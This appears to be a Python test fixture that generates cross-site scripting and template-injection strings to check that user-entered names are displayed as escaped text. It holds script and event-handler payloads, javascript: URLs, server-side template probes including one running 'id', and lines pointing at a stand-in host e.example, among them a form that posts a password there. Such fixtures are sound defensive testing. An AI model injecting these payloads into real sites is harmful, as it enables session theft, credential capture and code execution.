"""F1. Markup, scripts, attributes, addresses and templates where a name is expected: shown as text, kept as typed."""

from __future__ import annotations

_TAGS = ("img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object", "embed", "math")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationend", "onpageshow")
_QUOTES = ('"', "'", "`", "")

_WRITTEN = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//e.example></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//e.example>",
    "<meta http-equiv=refresh content=0;url=//e.example>",
    "<link rel=stylesheet href=//e.example>",
    "<style>*{background:url(//e.example)}</style>",
    "<form action=//e.example><input name=password>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)>",
    "<!--",
    "<![CDATA[<b>x</b>]]>",
    "<?php echo 7*7 ?>",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "{{7*7}}",
    "{{7*'7'}}",
    "{{config}}",
    "{{''.__class__.__mro__}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% raw %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= system('id') %>",
    "[[7*7]]",
    "@(7*7)",
    "*{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "[object Object]",
    "undefined",
    "null",
    "NaN",
    "true",
    "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x id=isSafe name=getElementById>",
    "<b>bold</b>",
    "<h1>김철수</h1>",
    "김<b>철</b>수",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_WRITTEN,
            *(f"{quote}><{tag} {handler}=alert(1)>" for quote in _QUOTES[:2] for tag, handler in zip(_TAGS, _HANDLERS * 2, strict=False)),
            *(f"x{quote} {handler}={quote}alert(1)" for quote in _QUOTES for handler in _HANDLERS),
            *(f"<{tag} src=x {_HANDLERS[at % 8]}=alert(1)>" for at, tag in enumerate(_TAGS)),
        )
    )
)  # fmt: skip
